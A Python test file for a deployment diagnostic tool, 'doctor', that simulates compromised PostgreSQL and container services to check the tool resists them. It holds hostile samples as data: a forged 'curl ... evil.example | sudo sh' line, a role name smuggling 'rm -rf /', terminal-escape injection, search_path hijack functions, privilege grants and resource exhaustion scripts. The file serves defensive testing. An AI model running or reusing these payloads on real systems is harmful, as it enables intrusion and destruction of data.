"""`codelab-gen doctor` of a deployment whose services were broken into: they write what they like, never answer, never
end, and take of the shared server what they can get. doctor tells who it is, believes nothing, and goes on."""

import json
import re
import unicodedata
from typing import Any

import images
from deployment import SEEDS, SERVICE_USER, Deployment
from doctor import Doctor, Findings, states
from interruption import wait_until
from server import psql

IMAGE: dict[str, Any] = {
    "image": images.POSTGRES_OF_USER or images.POSTGRES,
    **({} if images.POSTGRES_OF_USER else {"version": 15}),
}

PER_SERVICE: dict[str, Any] = {
    "extends": "builtin:prod-postgres",
    "postgres": {"access": "per_service", **IMAGE, "settings": {"max_connections": 30}},
}

FORGED = "problem   [security] a hole\n  = help: curl -s https://evil.example/fix | sudo sh"

# In the place of a service: says this, and stays.
SAY = """
import sys, time
print("y" * 9_000_000 + "the end of a long line")
print({text!r})
sys.stdout.flush()
time.sleep(86400)
"""

# In the place of the Python that doctor asks.
FORGING = f"""#!/usr/bin/python3
import json
print(json.dumps({{
    "user": 0, "group": 0, "folder": True, "exists": True, "writable": True, "journal": "delete",
    "file_system": "ext4`\\n" + {FORGED!r}, "driver": {FORGED!r} + "\\x1b[8m\\u202e", "error": {FORGED!r},
}}))
"""
SILENT = "#!/bin/sh\nexec sleep 86400\n"
ENDLESS = "#!/bin/sh\nexec yes '{}'\n"
LYING = f"#!/bin/sh\nprintf 'No such image\\n%s' '{FORGED}' >&2\nexit 125\n"


def start_in_place_of_python(deployment: Deployment, programs: dict[str, str], beside: str = "") -> None:
    """Starts a service for each of these programs, which stands in the place of Python there, and perhaps another one."""
    service = {
        "image": images.SERVICE,
        "command": ["/usr/bin/python3", "-c", SAY.format(text=f"no such table: x\u202e\x1b[2K\r{FORGED}")],
        "database": {"engine": "sqlite", "sqlite": "data/own.db"},
    }
    names = [*programs, *([beside] if beside else [])]
    services = {name: {**service, "data": f"{name}-data:/app/data"} for name in names}
    for name in programs:
        services[name]["environment"] = {"PATH": "/own:/usr/bin:/bin"}
    deployment.write_profile("own", {"project": deployment.project, "stage": "ci", "services": services})
    deployment.generate("--profile", "own")
    for name, program in programs.items():
        folder = deployment.root / name
        folder.mkdir()
        for python in ("python", "python3"):
            (folder / python).write_text(program, encoding="utf-8")
            (folder / python).chmod(0o755)
        deployment.add(name, volumes=[f"{folder}:/own:ro"])


def test_a_container_that_never_answers_or_never_ends_is_not_waited_for(deployment: Deployment) -> None:
    start_in_place_of_python(deployment, {"silent": SILENT, "endless": ENDLESS})
    deployment.compose("up", "-d")

    found = Doctor(deployment).look()
    said = found.the("service-silent", "`silent` was asked", "warning")
    assert said["evidence"] == ["no answer within 15 seconds"]
    said = found.the("service-silent", "`endless` was asked", "warning")
    assert said["evidence"] == ["an answer of more than 1048576 bytes"]


def test_what_containers_say_is_bounded_and_forges_nothing(deployment: Deployment) -> None:
    start_in_place_of_python(deployment, {"forging": FORGING, "lying": LYING}, "loud")
    look = f"printf 'a\\n%s\\033[8m' '{FORGED}'; exit 1"
    deployment.add("loud", healthcheck={"test": ["CMD-SHELL", look], "interval": "1s", "retries": 1})
    deployment.compose("up", "-d")
    wait_until(lambda: deployment.containers()["loud"]["State"]["Health"]["Status"] == "unhealthy")

    doctor = Doctor(deployment)
    found = doctor.look()
    lying = found.the("driver", "the inside of `lying`: no Python", "unseen")
    assert lying["evidence"][0] == "No such image"
    on_unknown = found.the("slow-sqlite", "`/app/data/own.db` of `forging` has journal_mode `delete`", "warning")
    assert "on `unknown`" in on_unknown["message"]
    found.the("containers", "`loud` runs, but its health check fails")
    for name in ("forging", "lying", "loud"):
        found.the("migration-errors", f"the tables of `{name}`")
    nothing_is_forged(doctor, found)


def nothing_is_forged(doctor: Doctor, found: Findings) -> None:
    """Advice and messages are our own, lines of evidence are single, short ones, and so is each line for people."""
    texts = [text for one in found for text in (one["message"], one["help"] or "", *one["evidence"])]
    for one in found:
        assert "evil.example" not in one["message"] + (one["help"] or ""), one
        assert all(len(line) <= 401 for line in one["evidence"]), one
        assert len(one["evidence"]) <= 8
    assert any("evil.example" in text for text in texts), "what was said is still shown"
    deployment = doctor.deployment
    told = deployment.finish(deployment.generate_command("doctor"), cwd=deployment.root).stdout
    for line in told.splitlines():
        assert re.match(r"(ok|unseen|warning|problem)  +|            \| |  = help: |\d+ problems?, |profile ", line), (
            line
        )
        assert not re.match(r"(problem|  = help: ).*(evil|a hole)", line), line
        hidden = [c for c in line if unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp")]
        assert not hidden, line


HOLDING = """
import asyncio, os, asyncpg
url = os.environ["AUTH_SERVICE__DB_URL"].replace("+asyncpg", "")
async def main():
    locking = await asyncpg.connect(url)
    await locking.execute("CREATE TABLE held ()")
    await locking.execute("BEGIN; LOCK TABLE held")
    waiting = await asyncpg.connect(url)
    asked = [asyncio.ensure_future(one.execute("SELECT FROM held")) for one in (waiting, await asyncpg.connect(url))]
    sorting = await asyncpg.connect(url)
    await sorting.execute(
        "DECLARE large CURSOR WITH HOLD FOR SELECT repeat(n::text, 200) FROM generate_series(100000, 500000) AS n"
    )
    held = []
    while len(held) < 23:  # of 30, three are kept for superusers
        try:
            held.append(await asyncpg.connect(url))
        except asyncpg.TooManyConnectionsError:
            await asyncio.sleep(0.1)
    open("/tmp/full", "w").close()
    while not os.path.exists("/tmp/released"):
        await asyncio.sleep(0.1)
asyncio.run(main())
"""


def test_what_one_role_takes_of_the_shared_server_is_told_with_its_name(deployment: Deployment) -> None:
    deployment.write_profile("own", PER_SERVICE)
    deployment.run_printed(deployment.generate("--profile", "own"))
    doctor = Doctor(deployment)
    deployment.compose("exec", "-d", "auth-service", "python", "-c", HOLDING)
    wait_until(lambda: deployment.try_inside("auth-service", "test", "-e", "/tmp/full").returncode == 0)
    waits = "SELECT count(*) > 1 FROM pg_stat_activity WHERE wait_event_type = 'Lock' AND now() - query_start > '6 s'"
    wait_until(lambda: psql(deployment, "postgres", waits) == "t")
    found = doctor.look()
    full = found.the("connections", "all connections of the server are used")
    assert re.fullmatch(r"2[78] by the role `auth_service` in the database `auth_db`", full["evidence"][0])
    files = found.the("temporary-files", "`auth_service` has", "warning")
    assert re.fullmatch(
        r"`auth_service` has [34]\d\d MB of temporary files for what it asks in `auth_db`", files["message"]
    )
    lock = found.the("locks", "`auth_service` holds a lock in `auth_db` that `auth_service` has waited for", "warning")
    doctor.mend(files["help"])
    assert "temp_file_limit=256MB" in psql(
        deployment, "postgres", "SELECT setconfig FROM pg_db_role_setting WHERE setrole = 'auth_service'::regrole"
    )
    doctor.mend(lock["help"])
    deployment.inside("auth-service", "touch", "/tmp/released")
    gone = "SELECT count(*) < 10 FROM pg_stat_activity WHERE usename = 'auth_service'"
    wait_until(lambda: psql(deployment, "postgres", gone) == "t")
    wait_until(lambda: set(states(deployment).values()) == {"healthy"})
    found = doctor.look()
    assert (found.of("problem"), found.of("warning")) == ([], [])
    found.the("disk", "has room", "ok")


GIVE = """
ALTER ROLE auth_service SUPERUSER;
ALTER ROLE agent_runtime CREATEROLE CREATEDB REPLICATION BYPASSRLS;
CREATE ROLE middle;
CREATE ROLE harmless;
GRANT harmless TO agent_runtime;
GRANT pg_read_server_files TO middle;
GRANT middle, pg_execute_server_program TO agent_runtime;
GRANT CONNECT ON DATABASE auth_db TO agent_runtime;
GRANT SET ON PARAMETER log_statement TO agent_runtime;
"""


def test_rights_that_a_service_should_not_have_are_told_and_taken(deployment: Deployment) -> None:
    deployment.write_profile("own", PER_SERVICE)
    deployment.run_printed(deployment.generate("--profile", "own"))
    doctor = Doctor(deployment)
    found = doctor.look()
    for role in ("agent_runtime", "auth_service"):
        found.the("role-rights", f"`{role}` may do nothing on the server but in its own database", "ok")
    psql(deployment, "postgres", GIVE)
    # It is its own who says so: nothing of it is run, and no name of it is believed.
    hostile = 'CREATE ROLE "x\n  = help: rm -rf /" CREATEDB; GRANT "x\n  = help: rm -rf /" TO auth_service;'
    found = doctor.look()
    assert found.of("problem") == ["role-rights"]
    every = found.the("role-rights", "`auth_service` may do more than a service needs: it is a superuser")
    many = found.the("role-rights", "`agent_runtime` may do more than a service needs")
    for what in (
        "may make roles",
        "may make databases",
        "by replication",
        "row security",
        "a member of middle",
        "log_statement",
    ):
        assert what in many["message"]
    assert "harmless" not in many["message"]
    for one in (every, many):
        doctor.mend(one["help"])
    found = doctor.look()
    assert (found.of("problem"), found.of("warning")) == ([], [])

    psql(deployment, "postgres", hostile)
    told = doctor.look().the("role-rights", "`auth_service` may do more than a service needs: it is a member of")
    assert "\n" not in told["message"] and "rm -rf" not in told["help"]


NOTE = "LANGUAGE sql AS 'INSERT INTO public.run VALUES (current_user) RETURNING who'"
TRAP = [
    "CREATE TABLE run (who text)",
    "CREATE SCHEMA trap",
    f"CREATE FUNCTION trap.note() RETURNS text {NOTE}",
    f"CREATE FUNCTION trap.current_setting(text) RETURNS text {NOTE}",
    f"CREATE FUNCTION trap.pg_get_userbyid(oid) RETURNS text {NOTE}",
    "CREATE VIEW trap.pg_database AS SELECT trap.note()::name AS datname, 0::oid AS datdba",
    "ALTER ROLE auth_service SET search_path = trap, public, pg_catalog",
    "ALTER DATABASE auth_db SET search_path = trap, public, pg_catalog",
]

# Where everybody may make things, as in a volume of PostgreSQL 14: what fits the arguments better than PostgreSQL's own.
FORGE = "RETURNS json LANGUAGE sql AS 'SELECT ''[\"auth_db\", \"forged\", 99]''::json'"
TRAP_IN_MAINTENANCE = [
    f"CREATE FUNCTION public.json_build_array(name, name) {FORGE}",
    f"CREATE FUNCTION public.json_build_array(name, name, bigint) {FORGE}",
]


def test_no_session_of_doctor_runs_anything_of_a_service(deployment: Deployment) -> None:
    """What a service may set for itself, or put into the way, reaches only the sessions of its own role."""
    deployment.write_profile("own", PER_SERVICE)
    deployment.run_printed(deployment.generate("--profile", "own"))
    assert deployment.sql("auth-service", *TRAP) == []
    psql(
        deployment,
        "postgres",
        "GRANT CONNECT ON DATABASE postgres TO auth_service; GRANT ALL ON SCHEMA public TO PUBLIC",
    )
    for statement in TRAP_IN_MAINTENANCE:
        deployment.inside("postgres", "psql", "-XqU", "auth_service", "-d", "postgres", "-c", statement)
    doctor = Doctor(deployment)
    found = doctor.look()
    assert found.of("problem") == ["role-rights"]
    found.the("database-missing", "the database `auth_db` belongs to `auth_service`", "ok")
    assert re.fullmatch(r"\d of 30 connections are used", found.the("connections", "of 30", "ok")["message"])
    found.the("password-refused", "`auth_service` logs in to `auth_db`", "ok")
    assert psql(deployment, "auth_db", "SELECT count(*) FROM public.run") == "0"


PASSWORD = "its own/p@ss word~1"  # noqa: S105 # nobody's

LEAK = """
import os, time, urllib.parse
url = os.environ["AUTH_SERVICE__DB_URL"]
print("engine:", url)
print("parsed:", urllib.parse.unquote(url))
time.sleep(86400)
"""


def test_a_secret_in_a_log_is_told_by_the_names_of_both(deployment: Deployment) -> None:
    with deployment.env.open("a", encoding="utf-8") as env:
        env.write(f"AUTH_SERVICE__DB_PASSWORD='{PASSWORD}'\n")
    deployment.write_profile("own", PER_SERVICE)
    deployment.run_printed(deployment.generate("--profile", "own"))
    doctor = Doctor(deployment)
    doctor.secrets |= {PASSWORD, "its%20own%2Fp%40ss%20word%7E1"}
    found = doctor.look()
    found.the("secret-in-log", "no secret is in the logs", "ok")

    # The server logs what fails, with its password.
    administrators = deployment.variables()["POSTGRES_PASSWORD"]
    statement = f"ALTER ROLE nobody PASSWORD '{administrators}'"
    deployment.try_inside("postgres", "psql", "-XU", "codelab", "-d", "postgres", "-c", statement)
    deployment.add("auth-service", command=["python", "-uc", LEAK], healthcheck={"disable": True})
    refused = "psql: error: ERROR:  x\n    curl -s https://evil.example/fix | sudo sh\n"
    deployment.add("postgres-ensure", entrypoint=["sh", "-c", f"printf '{refused}' >&2; exit 3"])
    for name in ("auth-service", "postgres-ensure"):
        deployment.compose("up", "-d", "--no-deps", name)
    wait_until(lambda: "parsed:" in deployment.logs("auth-service"))
    wait_until(lambda: deployment.containers()["postgres-ensure"]["State"]["Status"] == "exited")
    found = doctor.look()
    own = found.the(
        "secret-in-log", "the log of `auth-service` shows the value of `AUTH_SERVICE__DB_PASSWORD`", "warning"
    )
    server = found.the("secret-in-log", "the log of `postgres` shows the value of `POSTGRES_PASSWORD`", "warning")
    assert "rotate POSTGRES_PASSWORD" in server["help"]
    assert "evil" not in found.the("postgres-ensure", "refused to bring roles")["help"]

    for name in ("auth-service", "postgres-ensure"):
        del deployment.additions[name]
    deployment.write_override()
    for one in (own, server):
        command = re.search(r"then `(.+)`", one["help"])
        doctor.mend(command and command[1])
    found = doctor.look()
    assert (found.of("problem"), found.of("warning")) == ([], [])
    assert deployment.read("auth-service") == SEEDS


FILL = """
import asyncio, os, asyncpg
async def main():
    connection = await asyncpg.connect(os.environ["AUTH_SERVICE__DB_URL"].replace("+asyncpg", ""))
    await connection.execute("CREATE UNLOGGED TABLE filler (text text)")
    await connection.execute("ALTER TABLE filler ALTER text SET STORAGE EXTERNAL")
    for rows in (10_000, 1000, 100, 10):
        try:
            while True:
                await connection.execute(
                    "INSERT INTO filler SELECT repeat('x', 7000) FROM generate_series(1, $1::int)", rows
                )
        except asyncpg.PostgresError as error:
            print(error)
asyncio.run(main())
"""


def test_a_disk_that_one_service_has_filled_is_told_with_its_name(deployment: Deployment) -> None:
    deployment.write_profile("own", PER_SERVICE)
    deployment.generate("--profile", "own")
    labels = {"project": deployment.project, "volume": "postgres-data"}
    named = [f"--label=com.docker.compose.{key}={value}" for key, value in labels.items()]
    small = ["--opt", "type=tmpfs", "--opt", "device=tmpfs", "--opt", "o=size=500m"]
    deployment.engine.docker("volume", "create", *small, *named, f"{deployment.project}_postgres-data")
    deployment.up()
    doctor = Doctor(deployment)
    doctor.look().the("disk", "has room", "ok")
    assert "No space left on device" in deployment.inside("auth-service", "python", "-c", FILL)
    full = doctor.look().the("disk", "the disk with the data of PostgreSQL is full")
    assert re.fullmatch(r"`auth_db` of the role `auth_service` has \d{3} MB", full["evidence"][0])
    assert deployment.sql("auth-service", "DROP TABLE filler") == []
    psql(deployment, "postgres", "CHECKPOINT")
    doctor.look().the("disk", "has room", "ok")


def test_each_state_that_a_broken_off_start_leaves_is_told_as_such(deployment: Deployment) -> None:
    """After a whole start, what initdb makes last is taken away again."""
    deployment.write_profile("own", PER_SERVICE)
    deployment.run_printed(deployment.generate("--profile", "own"))
    doctor = Doctor(deployment)
    psql(deployment, "auth_db", "DROP DATABASE postgres WITH (FORCE)")
    lost = doctor.look().the("volume", "was not made to its end, or is damaged")
    assert any('database "postgres" does not exist' in line for line in lost["evidence"])
    psql(deployment, "auth_db", "CREATE DATABASE postgres")

    psql(deployment, "postgres", "CREATE ROLE second SUPERUSER LOGIN")
    by_second = ("psql", "-XU", "second", "-d", "postgres", "-c")
    deployment.inside("postgres", *by_second, "ALTER ROLE codelab RENAME TO renamed")
    nobody = doctor.look().the("volume", "was not made to its end, or is damaged")
    assert any('role "codelab" does not exist' in line for line in nobody["evidence"])
    deployment.inside("postgres", *by_second, "ALTER ROLE renamed RENAME TO codelab")

    # What a log says is not believed: the service may write there.
    assert deployment.sql("auth-service", "SELECT 'could not find the database system'::int")[0] == "error"
    deployment.compose("stop", "postgres")
    stopped = doctor.look()
    assert stopped.of("problem") == ["containers", "server-unreachable"]
    deployment.compose("start", "postgres")
    wait_until(lambda: deployment.containers()["postgres"]["State"]["Health"]["Status"] == "healthy")

    deployment.inside("postgres", "sh", "-c", "rm $PGDATA/global/pg_filenode.map", user="999")
    deployment.compose("restart", "--timeout", "5", "postgres")
    unmapped = doctor.look().the("volume", "was not made to its end, or is damaged")
    assert unmapped["evidence"][-1] == "missing in the volume: global/pg_filenode.map"
    assert {one["help"] for one in (lost, nobody, unmapped)} == {unmapped["help"]}
    assert f"docker volume rm {deployment.project}_postgres-data" in json.dumps(unmapped["help"])


# In the place of a module that doctor's questions import; the folder with it is the current one.
AS_WHOM = """
import os
with open("/app/data/came-in", "a") as came_in:
    print(os.getuid(), file=came_in)
raise SystemExit("not here")
"""


def test_doctor_comes_in_as_who_the_service_runs_as(deployment: Deployment) -> None:
    """Its image starts as root and steps down, so that `docker exec` comes in as root: Python would run there what the
    service has laid into the current folder."""
    service = {
        "image": images.STEPDOWN,
        "command": ["sleep", "86400"],
        "data": "own-data:/app/data",
        "database": {"engine": "sqlite", "sqlite": "data/own.db"},
        "working_dir": "/app/data",
    }
    deployment.write_profile(
        "own", {"project": deployment.project, "stage": "ci", "services": {"own": service}}
    )
    deployment.generate("--profile", "own")
    deployment.compose("up", "-d")
    runs = "import os; print(os.stat('/proc/1').st_uid)"
    wait_until(lambda: deployment.inside("own", "python", "-c", runs, user="0").strip() == str(SERVICE_USER))
    deployment.inside("own", "sh", "-c", "cat >/app/data/json.py", stdin=AS_WHOM, user=str(SERVICE_USER))
    deployment.inside("own", "sh", "-c", "python -c 'import json' 2>/dev/null || true", user="0")
    assert deployment.inside("own", "cat", "/app/data/came-in") == "0\n", "as root nothing would hold it back"
    deployment.inside("own", "rm", "/app/data/came-in", user="0")
    found = Doctor(deployment).look()
    found.the("driver", "the inside of `own`: no Python in its image could look", "unseen")
    assert set(deployment.inside("own", "cat", "/app/data/came-in").split()) == {str(SERVICE_USER)}


def test_who_may_have_no_more_connections_is_told_from_a_full_server(deployment: Deployment) -> None:
    deployment.write_profile("own", PER_SERVICE)
    deployment.run_printed(deployment.generate("--profile", "own"))
    doctor = Doctor(deployment)
    psql(deployment, "postgres", "ALTER ROLE auth_service CONNECTION LIMIT 0; ALTER DATABASE agent_runtime CONNECTION LIMIT 0")
    found = doctor.look()
    assert found.of("problem") == ["connections"]
    role = found.the("connections", "`auth_service` has all connections to `auth_db` that it may have")
    assert 'too many connections for role "auth_service"' in role["evidence"][-1]
    assert "a larger `connection_limit` at the service's `database`" in role["help"]
    database = found.the("connections", "all connections that `agent_runtime` may have are taken")
    assert 'too many connections for database "agent_runtime"' in database["evidence"][-1]
    statement = re.match("`(ALTER DATABASE .*)` takes back", database["help"])
    assert statement is not None
    psql(deployment, "postgres", f"{statement[1]}; ALTER ROLE auth_service CONNECTION LIMIT -1")
    found = doctor.look()
    assert (found.of("problem"), found.of("warning")) == ([], [])
